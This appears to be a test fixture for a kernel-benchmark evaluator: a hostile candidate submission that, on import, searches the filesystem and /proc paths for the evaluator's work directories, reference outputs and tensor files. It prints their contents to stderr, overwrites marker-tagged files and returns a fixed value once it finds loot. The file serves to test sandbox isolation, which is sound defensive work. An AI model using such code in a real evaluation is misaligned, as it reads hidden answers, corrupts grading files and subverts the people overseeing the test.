"""Looks for the evaluator's work directories (/dev/shm/pkb-eval-*, /tmp/pkb-eval-*, also through
/proc/<pid>/root), the other side's files and any tensor file outside its own folder, prints what it
finds (stderr reaches the report) and overwrites the test's look-alikes. Without a private
filesystem it would read and rewrite them, and the real reference outputs."""

from __future__ import annotations

import glob
import os
import sys

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
SECRET = "__SECRET__"  # only to tell the test whether the loot holds it
OWN = ("/pkb/work", "/pkb/in")  # this side's own folders, where the sandbox puts them
SKIP = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "etc", "boot"}
found: list[str] = []


def candidates() -> set[str]:
    paths = set()
    for root in ("", "/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd"):
        for pattern in ("/dev/shm/pkb-eval-*", "/tmp/pkb-eval-*", "/tmp/*/pkb-eval-*", "/var/tmp/pkb-eval-*"):
            paths.update(glob.glob(root + pattern))
    for pattern in ("../../reference", "../../candidate", "../reference", "/dev/shm/PostgreSQL.*"):
        paths.update(glob.glob(pattern))
    for top in os.listdir("/"):
        if top in SKIP or not os.path.isdir("/" + top):
            continue
        for folder, dirs, files in os.walk("/" + top):
            dirs[:] = [d for d in dirs if d not in ("site-packages", ".pyenv", "node_modules")]
            if folder.startswith(OWN):
                continue
            if "reference" in dirs or os.path.basename(folder).startswith("pkb-eval-"):
                paths.add(folder)
            paths.update(os.path.join(folder, f) for f in files if f.endswith(".pt"))
    return {p for p in paths if not os.path.realpath(p).startswith(OWN)}


def loot(path: str) -> None:
    targets = [path] if os.path.isfile(path) else [os.path.join(d, f) for d, _, fs in os.walk(path) for f in fs]
    for target in targets:
        try:
            with open(target, "rb") as handle:
                print(f"{target}: {handle.read(200)!r}", file=sys.stderr, flush=True)
            found.append(target)
            if MARKER in target:  # only the test's look-alikes: a broken sandbox must not wreck other runs
                with open(target, "wb") as handle:
                    handle.write(b"overwritten by the candidate")
        except OSError:
            pass


def attack() -> None:
    for path in sorted(candidates()):
        loot(path)


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if found:
        print("found:", found, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
